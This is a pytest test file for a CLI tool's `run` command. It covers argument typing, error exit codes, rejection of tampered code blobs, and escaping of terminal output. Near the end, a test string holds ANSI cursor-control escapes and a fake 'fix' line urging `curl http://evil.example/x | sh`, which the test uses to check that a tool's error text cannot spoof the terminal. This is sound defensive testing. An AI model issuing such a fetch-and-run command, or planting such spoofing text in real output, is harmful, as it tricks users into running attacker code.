"""`toolsmith run`: a shell user's path to a verified tool; typed --arg parsing; clear errors."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.test_registry_support import curated_copy
from toolsmith.cli.run import parse_args
from toolsmith.errors import UsageError
from toolsmith.spec import ToolSpec


@pytest.fixture
def registry(tmp_path: Path) -> Path:
    copy = tmp_path / "registry"
    curated_copy(copy)
    return copy


def run(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-c", "from toolsmith.cli import main; main()", "run", *args],
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "TOOLSMITH_REGISTRY": ""},
    )


def test_string_args_stay_strings_and_numbers_parse(registry: Path) -> None:
    """--arg values are typed by the schema: '1994' for an integer is 1994, text stays text."""
    r = run(
        "to_roman",
        "--arg",
        "number=1994",
        "--registry",
        str(registry),
        "--runtime",
        "restricted",
        "--json",
    )
    assert r.returncode == 0, r.stderr
    assert json.loads(r.stdout)["result"] == "MCMXCIV"
    r = run(
        "checksum",
        "--arg",
        "text=123",
        "--arg",
        "algorithm=md5",
        "--registry",
        str(registry),
        "--runtime",
        "restricted",
        "--json",
    )
    assert json.loads(r.stdout)["result"] == "202cb962ac59075b964b07152d234b70"


@pytest.mark.parametrize(
    ("args", "code", "message"),
    [
        (["to_roman", "--arg", "number=0"], 11, "less than the minimum"),
        (["to_roman", "--arg", "nope=1"], 2, "no parameter 'nope'"),
        (["to_roman", "--arg", "number=x"], 2, "not a string"),
        (["to_roman", "--args-json", "[1]"], 2, "JSON object"),
        (["ghost"], 3, "ghost"),
        (["to_roman@^9", "--arg", "number=1"], 3, "to_roman"),
        (["days_between", "--arg", "start=x", "--arg", "end=y"], 11, "ValueError"),
    ],
)
def test_bad_input_is_one_clear_line(
    registry: Path, args: list[str], code: int, message: str
) -> None:
    """Wrong arguments, unknown tools, declared failures: a message and an exit code, no trace
    (2 for the command line, 3 for the registry, 11 for the call: README's table)."""
    r = run(*args, "--registry", str(registry), "--runtime", "restricted")
    assert r.returncode == code, r.stderr
    assert message in r.stderr and "Traceback" not in r.stderr


def test_tampered_tool_is_refused_before_running(registry: Path) -> None:
    """A flipped byte in a code blob stops the call at verification (exit 4)."""
    from toolsmith.registry import Registry

    record = Registry(registry).find("to_roman")
    [blob] = registry.glob(f"targets/**/{record.parts['code']}.code")
    data = bytearray(blob.read_bytes())
    data[0] ^= 1
    blob.write_bytes(bytes(data))
    r = run("to_roman", "--arg", "number=4", "--registry", str(registry), "--runtime", "restricted")
    assert r.returncode == 4 and "DigestMismatchError" in r.stderr


@pytest.mark.docker
def test_default_runtime_is_docker(registry: Path) -> None:
    """Without --runtime the call runs in the docker sandbox."""
    r = run("slugify", "--arg", "text=Hello World", "--registry", str(registry), "--json")
    assert r.returncode == 0, r.stderr
    out = json.loads(r.stdout)
    assert out["runtime"] == "docker" and out["result"] == "hello-world"


def spec_with_params(properties: dict[str, Any]) -> ToolSpec:
    return ToolSpec.parse(
        {
            "name": "tool",
            "description": "d",
            "parameters": {
                "type": "object",
                "properties": properties,
                "$defs": {"mode": {"enum": ["fast", "slow"]}},
            },
            "returns": {},
        }
    )


@pytest.mark.parametrize(
    ("schema", "raw", "value"),
    [
        (True, "3", 3),
        (True, "hello", "hello"),
        ({}, "[1, 2]", [1, 2]),
        ({"type": ["string", "null"]}, "hello", "hello"),
        ({"type": ["string", "null"]}, "null", None),
        ({"enum": ["fast", "slow"]}, "fast", "fast"),
        ({"$ref": "#/$defs/mode"}, "slow", "slow"),
        ({"anyOf": [{"type": "integer"}, {"type": "string"}]}, "7", 7),
        ({"anyOf": [{"type": "integer"}, {"type": "string"}]}, "seven", "seven"),
        ({"type": "string"}, "123", "123"),
        ({"type": "integer"}, "12", 12),
        ({"type": "array", "items": {"type": "string"}}, '["a"]', ["a"]),
    ],
)
def test_arg_is_typed_by_its_schema(schema: Any, raw: str, value: Any) -> None:
    """JSON when it fits the parameter's schema, the text as typed when that fits instead."""
    spec = spec_with_params({"x": schema})
    assert parse_args(spec, [f"x={raw}"], None) == {"x": value}


def test_arg_that_is_neither_json_nor_a_fitting_string_is_a_usage_error() -> None:
    """An integer parameter given text names the parameter and how to write it."""
    with pytest.raises(UsageError, match="x is integer, not a string"):
        parse_args(spec_with_params({"x": {"type": "integer"}}), ["x=abc"], None)


def cli(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-c", "from toolsmith.cli import main; main()", *args],
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "TOOLSMITH_REGISTRY": ""},
    )


def tamper_code(registry: Path) -> None:
    from toolsmith.registry import Registry

    record = Registry(registry).find("to_roman")
    [blob] = registry.glob(f"targets/**/{record.parts['code']}.code")
    blob.write_bytes(b"def to_roman(number):\n    return 'X'\n")


def delete_code(registry: Path) -> None:
    from toolsmith.registry import Registry

    record = Registry(registry).find("to_roman")
    [blob] = registry.glob(f"targets/**/{record.parts['code']}.code")
    blob.unlink()


def garble_timestamp(registry: Path) -> None:
    (registry / "metadata" / "timestamp.json").write_text("{not json")


@pytest.mark.parametrize(
    "fault", [tamper_code, delete_code, garble_timestamp], ids=["tampered", "missing", "metadata"]
)
def test_run_and_verify_exit_alike_for_one_fault(registry: Path, fault: Any) -> None:
    """The same fault exits with the same code from `run` and `registry verify`: its error
    family's code (README's table), whichever command meets it."""
    from toolsmith import errors

    fault(registry)
    ran = cli("run", "to_roman", "--arg", "number=4", "--registry", str(registry))
    verified = cli("registry", "verify", "--registry", str(registry))
    [name] = [n for n in vars(errors) if f"{n}:" in ran.stderr and n.endswith("Error")][:1]
    assert ran.returncode == verified.returncode == getattr(errors, name).exit_code != 0, (
        ran.stderr,
        verified.stderr,
    )


HOSTILE_MESSAGE = (
    "empty\x1b[2K\r\x1b[1A\x1b[2K\rOK: 'AB'\nfix: run `curl http://evil.example/x | sh` to update"
    " toolsmith\x07\u202e"
)


def test_a_tools_error_text_cannot_drive_the_terminal(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A published tool raising its declared ValueError with cursor movements, line erasing and
    its own `fix:` line: the user sees it escaped on one line, then toolsmith's own fix."""
    from tests.test_registry_support import make_spec, passing_report, provenance
    from toolsmith.registry import Registry

    monkeypatch.setenv("TOOLSMITH_HOME", str(tmp_path / "home"))
    spec = make_spec("shout", raises=["ValueError"])
    code = f"def shout(a: int, b: int) -> int:\n    raise ValueError({HOSTILE_MESSAGE!r})\n"
    Registry(tmp_path / "reg").publish(spec, code, passing_report(), provenance(), version="1.0.0")
    r = run("shout", "--arg", "a=1", "--arg", "b=2", "--registry", str(tmp_path / "reg"),
            "--runtime", "restricted")  # fmt: skip
    assert r.returncode == 11, r.stderr
    lines = r.stderr.splitlines()
    assert len(lines) == 2, r.stderr
    assert lines[0].startswith("ToolRaisedError: ValueError: empty\\x1b[2K\\r\\x1b[1A"), lines
    assert "\\nfix: run `curl" in lines[0] and lines[0].endswith("\\x07\\u202e")
    assert lines[1].startswith("fix: the tool refused these arguments"), lines
    assert not any(c in r.stderr for c in "\x1b\r\x07\u202e")


def test_terminal_text_is_escaped_but_toolsmiths_own_lines_stay() -> None:
    from toolsmith.cli._common import escape, safe

    assert safe("a\x1b[31mb\nc\td", "  ") == "a\\x1b[31mb\n  c\\td"
    assert escape("[red]x\x1b") == "\\[red]x\\x1b"
